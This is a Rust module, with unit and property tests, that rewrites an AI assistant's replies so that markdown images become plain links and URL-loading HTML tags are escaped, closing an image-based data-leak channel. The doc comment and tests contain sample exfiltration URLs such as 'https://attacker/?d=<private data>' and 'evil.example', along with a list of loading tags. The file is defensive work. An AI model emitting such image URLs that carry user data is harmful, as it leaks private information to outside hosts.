//! Model-written images are never fetched automatically: the markdown-image channel
//! (`![x](https://attacker/?d=<private data>)`, which a rendering surface would load with no
//! click) is closed in the reply text itself, once for every surface — the OpenAI-compatible
//! API feeds chat UIs that render markdown, and the web app and Telegram will render too.
//!
//! The rule: the `!` of `![` is dropped (the image becomes a plain link the owner may or
//! may not click), and the raw HTML tags that load a URL by themselves (`<img`, `<image`,
//! `<svg`, `<video`, `<audio`, `<source`, `<picture`, `<iframe`, `<embed`, `<object`,
//! `<link`, `<input`, `<track`) get their `<` escaped as `&lt;`. Streaming applies the same
//! rule to deltas, holding back only a trailing fragment that could still become one of
//! these, so the concatenated deltas always equal the final text.
//!
//! Owns: that rewrite. Does not own: rendering or sanitising markdown (surfaces).

/// Tags whose element fetches a URL when rendered, lower-case, without `<`.
const LOADING_TAGS: &[&str] = &[
    "img", "image", "svg", "video", "audio", "source", "picture", "iframe", "embed", "object",
    "link", "input", "track",
];

/// Longest fragment that may have to wait for the next delta: `<` + the longest tag.
const MAX_HELD: usize = 1 + 7;

/// The whole-text rule.
pub(crate) fn defuse_images(text: &str) -> String {
    rewrite(text, true).0
}

/// The same rule over a stream of deltas.
#[derive(Debug, Default)]
pub(crate) struct ImageDefuser {
    held: String,
}

impl ImageDefuser {
    /// The safe text ready to show; a fragment that might still become `![` or a loading
    /// tag is held for the next delta.
    pub(crate) fn push(&mut self, delta: &str) -> String {
        let mut text = std::mem::take(&mut self.held);
        text.push_str(delta);
        let (out, held) = rewrite(&text, false);
        self.held = held;
        out
    }

    /// Whatever was held: at the end of the text it can no longer become anything else.
    pub(crate) fn finish(&mut self) -> String {
        let held = std::mem::take(&mut self.held);
        rewrite(&held, true).0
    }
}

/// The rewritten text and, unless `at_end`, the undecided tail to hold.
fn rewrite(text: &str, at_end: bool) -> (String, String) {
    let mut out = String::with_capacity(text.len() + 8);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        match c {
            '!' => {
                // A run of `!` before `[` goes whole: dropping only the last one would
                // leave another `!` right before the `[`.
                let run = rest.len() - rest.trim_start_matches('!').len();
                match rest[run..].chars().next() {
                    Some('[') => {}
                    Some(_) => out.push_str(&rest[..run]),
                    None if at_end => out.push_str(&rest[..run]),
                    None => return (out, rest.to_owned()),
                }
                rest = &rest[run..];
                continue;
            }
            '<' => match tag_at(rest, at_end) {
                TagAt::Loading => out.push_str("&lt;"),
                TagAt::Undecided => return (out, rest.to_owned()),
                TagAt::Other => out.push('<'),
            },
            other => out.push(other),
        }
        rest = &rest[c.len_utf8()..];
    }
    (out, String::new())
}

enum TagAt {
    Loading,
    /// Too short to tell yet (only when more text may follow).
    Undecided,
    Other,
}

/// `rest` starts with `<`: does a loading tag (`<tag` or `</tag` followed by a delimiter,
/// or by the end of the whole text) start here?
fn tag_at(rest: &str, at_end: bool) -> TagAt {
    let body = &rest[1..];
    let body = body.strip_prefix('/').unwrap_or(body);
    if body.is_empty() {
        return if at_end {
            TagAt::Other
        } else {
            TagAt::Undecided
        };
    }
    let lower: String = body
        .chars()
        .take(MAX_HELD + 1)
        .collect::<String>()
        .to_lowercase();
    let mut could_be = false;
    for tag in LOADING_TAGS {
        if let Some(next) = lower.strip_prefix(tag) {
            match next.chars().next() {
                Some(c) if is_delimiter(c) => return TagAt::Loading,
                Some(_) => {}
                None if at_end => return TagAt::Loading,
                None => could_be = true,
            }
        } else if tag.starts_with(lower.as_str()) {
            could_be = true;
        }
    }
    if could_be && !at_end {
        TagAt::Undecided
    } else {
        TagAt::Other
    }
}

fn is_delimiter(c: char) -> bool {
    c.is_whitespace() || matches!(c, '/' | '>')
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn images_become_links_and_loading_tags_are_escaped() {
        assert_eq!(
            defuse_images("see ![home](https://evil.example/?d=12+Rue) now"),
            "see [home](https://evil.example/?d=12+Rue) now"
        );
        assert_eq!(defuse_images("wow! [link](x) !"), "wow! [link](x) !");
        assert_eq!(
            defuse_images("<img src=x> <IMG\nsrc=y> <imgur> <svg/onload> </iframe> <image>"),
            "&lt;img src=x> &lt;IMG\nsrc=y> <imgur> &lt;svg/onload> &lt;/iframe> &lt;image>"
        );
        assert_eq!(
            defuse_images("a < b and <b>bold</b>"),
            "a < b and <b>bold</b>"
        );
        assert_eq!(defuse_images("ends with <img"), "ends with &lt;img");
        assert_eq!(defuse_images("ends with !"), "ends with !");
        assert_eq!(defuse_images("ends with <"), "ends with <");
        assert_eq!(defuse_images("![a]![b]"), "[a][b]");
        assert_eq!(defuse_images("!!![a] hi!!"), "[a] hi!!");
    }

    #[test]
    fn a_split_image_is_still_defused() {
        let mut d = ImageDefuser::default();
        let mut out = d.push("look !");
        out.push_str(&d.push("[x](https://e/?q=1) <im"));
        out.push_str(&d.push("g src=1>"));
        out.push_str(&d.finish());
        assert_eq!(out, "look [x](https://e/?q=1) &lt;img src=1>");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
        /// Streaming in any split gives exactly the whole-text rewrite, and the rewrite
        /// never leaves an image or a loading tag.
        #[test]
        fn any_split_equals_the_whole_text_rule(
            parts in proptest::collection::vec(proptest::sample::select(vec![
                "!", "[", "]", "<", ">", "/", " ", "\n", "a", "Z", "img", "IMG", "svg", "image",
                "iframe", "imgur", "<im", "é", "(", ")", "x", "!!", "</", "liNk",
            ]), 0..40),
            cuts in proptest::collection::vec(0usize..64, 0..6),
        ) {
            let text: String = parts.concat();
            let whole = defuse_images(&text);
            let mut points: Vec<usize> = cuts.into_iter().map(|c| c % (text.len() + 1)).filter(|&c| text.is_char_boundary(c)).collect();
            points.sort();
            points.dedup();
            let mut d = ImageDefuser::default();
            let mut out = String::new();
            let mut last = 0;
            for p in points {
                out.push_str(&d.push(&text[last..p]));
                last = p;
            }
            out.push_str(&d.push(&text[last..]));
            out.push_str(&d.finish());
            prop_assert_eq!(&out, &whole);
            prop_assert!(!whole.contains("!["), "{}", whole);
            let lower = whole.to_ascii_lowercase();
            for t in LOADING_TAGS {
                for delim in [" ", ">", "/", "\n"] {
                    let open = format!("<{t}{delim}");
                    let close = format!("</{t}{delim}");
                    prop_assert!(!lower.contains(&open), "{}", whole);
                    prop_assert!(!lower.contains(&close), "{}", whole);
                }
            }
        }
    }
}
